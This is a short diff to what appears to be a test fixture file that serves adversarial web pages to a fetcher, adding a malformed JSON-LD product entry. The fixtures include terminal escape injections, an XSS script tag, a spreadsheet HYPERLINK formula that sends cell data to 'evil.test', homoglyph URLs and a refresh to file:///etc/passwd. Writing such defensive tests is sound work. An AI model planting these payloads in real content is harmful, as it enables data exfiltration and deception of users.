@@ -172,6 +172,7 @@ PNG = b"\x89PNG\r\n\x1a\n" + Random(1).randbytes(300_000)
 ESCAPES = "Racing\x1b]0;owned\x07 \x1b[2J\x1b[8mhidden \x9b5m \u202egnp.exe\u202c"
 MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>"
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'
+PRODUCT = r"""{"@type": "Product", "name": "T\u001b[31mea\u202e\ud800", "offers": {"price": "1e999"}}"""
 CONFUSABLES = (
     "http://\u0430pple.test/",
     "http://\uff41pple.test/",
@@ -206,6 +207,7 @@ MARKED_UP: dict[str, Answer] = {
     "/escapes-header": static("x", "Content-Encoding: \x1b]0;owned\x07\x1b[2J"),
     "/markup": static(html(f"<p>{prose('markup')}", f"<title>{escape(MARKUP)}</title>")),
     "/formula": static(html(f"<p>{prose('formula')}", f"<title>{escape(FORMULA)}</title>")),
+    "/product": static(html(f"<script type='application/ld+json'>{PRODUCT}</script>{prose('product')}")),
     "/refresh-loop": static(html("x", "<meta http-equiv=refresh content='0; url=/refresh-loop'>")),
     "/refresh-file": static(html("x", "<meta http-equiv=refresh content='0; url=file:///etc/passwd'>")),
     "/cookies": cookies,
